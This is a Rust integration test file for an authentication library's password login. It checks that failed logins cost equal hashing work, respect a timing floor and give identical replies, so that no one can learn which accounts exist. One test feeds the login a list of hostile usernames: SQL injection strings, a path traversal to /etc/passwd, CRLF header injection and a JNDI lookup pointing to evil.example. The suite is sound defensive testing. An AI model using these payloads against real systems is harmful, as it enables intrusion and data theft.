//! Nobody learns who has an account (PROTOCOL R-g4, R-g7): the same work, the same answer, not before the same time.
//!
//! No clock is read to compare: what takes the time is counted instead.

use std::time::{Duration, Instant};

use countersign::{
    flow::{
        Origin,
        admin::users,
        login::password::{Attempt, Door, check},
    },
    protocol::{client_metadata::ClientMetadata, grant::GrantType},
};

use crate::support::{PASSWORD, TestServer};

fn with_password(app: &mut ClientMetadata) {
    app.grant_types.push(GrantType::Password);
}

/// ada, somebody who is locked, somebody without a password.
async fn people(server: &TestServer) {
    server.user("ada").await;
    server.user("locked").await;
    users::set_locked(&server.admin, &Origin::default(), "locked", true).await.unwrap();
    let new = users::NewUser { username: "bare".to_owned(), ..users::NewUser::default() };
    users::create(&server.admin, &Origin::default(), new).await.map(drop).unwrap();
}

const NAMES: [(&str, &str); 5] =
    [("ada", "wrong"), ("nobody", "wrong"), ("nobody", PASSWORD), ("locked", PASSWORD), ("bare", PASSWORD)];

#[tokio::test(flavor = "multi_thread")]
async fn every_refused_try_costs_one_hash_and_one_that_is_not_looked_at_costs_none() {
    let server = TestServer::start().await;
    people(&server).await;
    let ctx = &server.admin;
    let spent = async |name: &str, password: &str, door: Door| {
        let before = ctx.hashing.spent();
        let attempt = Attempt { name, password, device: None, door };
        assert!(check(ctx, &Origin::default(), &attempt, None).await.is_err());
        ctx.hashing.spent() - before
    };
    for door in [Door::Page, Door::PasswordGrant] {
        for (name, password) in NAMES {
            assert_eq!(spent(name, password, door).await, 1, "{name}");
        }
        let huge = "x".repeat(50_000);
        for name in ["ada", "nobody", &huge] {
            assert_eq!(spent(name, &huge, door).await, 0, "too long to be anybody's");
        }
    }
    for name in ["ada", "nobody"] {
        for _ in 0..8 {
            assert!(spent(name, "wrong", Door::Page).await <= 1);
        }
        assert_eq!(spent(name, PASSWORD, Door::Page).await, 0, "{name}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn no_refusal_leaves_before_the_floor_whatever_was_behind_it() {
    const FLOOR: Duration = Duration::from_millis(400);
    let server = TestServer::with(&[("COUNTERSIGN_PASSWORD__FAILURE_FLOOR", "400ms")]).await;
    people(&server).await;
    let app = server.app_with(with_password).await;
    for (name, password) in NAMES {
        let pairs = [("grant_type", "password"), ("username", name), ("password", password)];
        let began = Instant::now();
        app.token(&pairs).await.refused("invalid_grant");
        assert!(began.elapsed() >= FLOOR, "{name} at the token endpoint");
        let mut browser = server.browser();
        let csrf = browser.get("/login").await.field("csrf");
        let began = Instant::now();
        let fields = [("username", name), ("password", password), ("csrf", &csrf)];
        browser.post("/login", &fields).await.has_status(200).says("match");
        assert!(began.elapsed() >= FLOOR, "{name} at the page");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_password_that_is_nearly_right_is_wrong_and_reads_like_any_other() {
    let server = TestServer::start().await;
    server.user("ada").await;
    let app = server.app_with(with_password).await;
    let wrong = [
        PASSWORD[1..].to_owned(),
        PASSWORD[..PASSWORD.len() - 1].to_owned(),
        PASSWORD.to_uppercase(),
        format!("{PASSWORD} "),
        format!(" {PASSWORD}"),
        format!("{PASSWORD}\u{200b}"),
        format!("{PASSWORD}{PASSWORD}"),
        format!("{PASSWORD}{}", "x".repeat(5000)),
        PASSWORD.replace('a', "\u{430}"),
    ];
    let ask = async |password: &str| {
        let reply = app.token(&[("grant_type", "password"), ("username", "ada"), ("password", password)]).await;
        server.clock.advance(24 * 3600);
        (reply.status.as_u16(), reply.body)
    };
    let expected = ask("wrong").await;
    assert_eq!(expected.0, 400);
    for password in &wrong {
        assert_eq!(ask(password).await, expected, "{password}");
        server.browser().try_to_sign_in("ada", password).await.has_status(200).says("match");
    }
    assert_eq!(ask(PASSWORD).await.0, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn names_that_nobody_can_have_are_just_wrong() {
    let server = TestServer::start().await;
    server.user("ada").await;
    let app = server.app_with(with_password).await;
    let long = "n".repeat(60_000);
    let names = [
        "'; DROP TABLE users; --",
        "ada' OR '1'='1",
        "ada\\",
        "%",
        "_",
        "*",
        "../../etc/passwd",
        "ada\r\nSet-Cookie: a=b",
        "a\tda",
        "\u{202e}ada",
        "a\u{0301}da",
        "\u{feff}ada",
        "\u{1f9d1}\u{200d}\u{1f4bb}",
        "${jndi:ldap://evil.example}",
        "{{ada}}",
        "\u{7f}\u{1b}[31m",
        "null",
        "-1",
        &long,
    ];
    let expected = app.token(&[("grant_type", "password"), ("username", "nobody"), ("password", "wrong")]).await;
    expected.has_status(400).refused("invalid_grant");
    for name in names {
        let reply = app.token(&[("grant_type", "password"), ("username", name), ("password", PASSWORD)]).await;
        assert_eq!((reply.status, &reply.body), (expected.status, &expected.body), "{name}");
        let page = server.browser().try_to_sign_in(name, PASSWORD).await;
        page.has_status(200).says("match");
        assert!(page.headers.get_all("set-cookie").iter().all(|cookie| !cookie.to_str().unwrap().contains("session")));
    }
    // a NUL stands in no text of ours: it is refused before anybody looks
    app.token(&[("grant_type", "password"), ("username", "ada\0"), ("password", PASSWORD)])
        .await
        .refused("invalid_request");
    server.browser().try_to_sign_in("ada\0", PASSWORD).await.has_status(400);
}
